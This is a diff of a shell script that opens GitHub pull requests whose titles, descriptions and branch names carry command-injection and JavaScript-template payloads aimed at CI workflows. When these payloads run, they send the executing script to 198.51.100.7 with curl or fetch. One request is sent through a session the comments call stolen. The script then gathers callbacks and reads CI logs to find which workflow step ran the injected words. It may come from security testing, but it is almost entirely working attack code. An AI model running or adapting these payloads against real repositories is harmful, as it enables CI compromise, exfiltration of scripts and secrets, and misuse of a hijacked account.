@@ -1,43 +1,42 @@
-# Titles, descriptions and branch names in five pull requests. What runs sends its script, or its number, to 198.51.100.7.
+# Sixteen titles, descriptions and branch names in three pull requests. Each runs in one kind of place, and sleeps in the
+# others. What runs sends its script, or its number, to 198.51.100.7.
 # The last one comes from Aya's stolen session: who writes the words says nothing about what they do.
 mark='Tide 7\8'
 send='cat $0|curl -s -d @- 198.51.100.7'
 call='curl${IFS}-s${IFS}198.51.100.7'
+js='await fetch'
 export open='
-cd ~/tides
-git push -q origin "HEAD:refs/heads/$branch" || exit 127
-gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" --jq .number || exit 127'
+gh api "repos/$who/tides/git/refs" -f ref="refs/heads/$branch" -f sha="$(git -C ~/tides rev-parse HEAD)" > /dev/null || exit 127
+gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" > /dev/null || exit 127'
 export who=cuckoo
-export title="$mark; $send/t1 #" body='${await fetch("http://198.51.100.7/b1")}' branch="a;$call/r1"
-bash -c "$open" > numbers || exit 127
-export title="$mark\"; $send/t2; #" body='`+(await fetch("http://198.51.100.7/b2"))+`' branch="b\$($call/r2)"
-bash -c "$open" >> numbers || exit 127
-export title="$mark' | $send/t5 #" body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`' branch="e'|$call/r5|'"
-bash -c "$open" >> numbers || exit 127
-export title="$mark \`$send/t4\`" body="'+(await fetch(\"http://198.51.100.7/b4\"))+'" branch="d\"&$call/r4&\""
-bash -c "$open" >> numbers || exit 127
-export who=aya title="$mark \$($send/t3)" body="\"+(await fetch('http://198.51.100.7/b3'))+\"" branch="c\`$call/r3\`"
-as aya "$open" >> numbers || exit 127
-sleep 5m
+export title="$mark; $send/t1 #\"; $send/t2; #" branch="a;$call/r1;\"&$call/r4&\";'|$call/r5|'"
+export body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`'
+bash -c "$open" || exit 127
+export title="$mark \`$send/t4\`" branch="c\`$call/r3\`"
+export body="\${$js('http://198.51.100.7/b1')}\`+($js('http://198.51.100.7/b2'))+\`"
+bash -c "$open" || exit 127
+export who=aya title="$mark \$($send/t3) #' | $send/t5 #" branch="b\$($call/r2)"
+export body="\"+($js(\`http://198.51.100.7/b3\`))+\"'+($js(\`http://198.51.100.7/b4\`))+'"
+as aya "$open" || exit 127
+sleep 3m
 loot magpie > received
 hits=$(sed -n 's|^198\.51\.100\.7 192\.0\.2\.[0-9]* [A-Z]* /\([tbr][1-6]\)$|\1|p' received)
 if [ -z "$hits" ]; then
-  say "Five pull requests came, with $(wc -l < numbers) titles and as many descriptions and branch names. None of them ran."
+  say "Three pull requests came, with five ways to run a title, five for a branch name, and six for a description. None of them ran."
   exit 1
 fi
 say "Words of strangers ran:" $hits
 evidence ci.logs "198.51.100.7 received $(echo $hits)"
-# In which step: the log of the run that sent it shows the words in the script.
-step() {
-  number=$(sed -n "$2p" numbers)
-  run=$(gh run list -R lantern-tides/tides -L 40 --json databaseId,displayTitle --jq "first(.[] | select(.displayTitle | contains(\"/t$2\")) | .databaseId)")
-  gh run view "$run" -R lantern-tides/tides --log | grep -F "$1" | head -n 1 | cut -f 2
-}
+# In which step: the logs of the runs show the words in the script.
+for run in $(gh run list -R lantern-tides/tides -L 20 --json databaseId,displayTitle --jq '.[] | select(.displayTitle | startswith("Tide 7")) | .databaseId'); do
+  gh run view "$run" -R lantern-tides/tides --log
+done > logs
+step() { grep -F "$1" logs | head -n 1 | cut -f 2; }
 hit() { [[ " $(echo $hits) " == *" $1 "* ]]; }
 first() { for it in $hits; do case $it in $1*) echo "${it#?}"; return;; esac; done; }
 t=$(first t) b=$(first b) r=$(first r)
 if [ -n "$t" ]; then
-  step=$(step "/t$t" "$t")
+  step=$(step "/t$t")
   grep -A 1 " /t$t\$" received > sent
   if grep -qF 'Tide 7\\8' sent; then found JSON step="$step"
   elif ! grep -qF 'Tide 7\8' sent; then found EVAL step="$step"
@@ -46,6 +45,6 @@ if [ -n "$t" ]; then
   elif hit t4; then found FILTER step="$step"
   else found TITLE step="$step"; fi
 fi
-[ -z "$r" ] || found BRANCH step="$(step "/r$r" "$r")"
-[ -z "$b" ] || found BODY step="$(step "/b$b" "$b")"
+[ -z "$r" ] || found BRANCH step="$(step "/r$r")"
+[ -z "$b" ] || found BODY step="$(step "/b$b")"
 exit 0
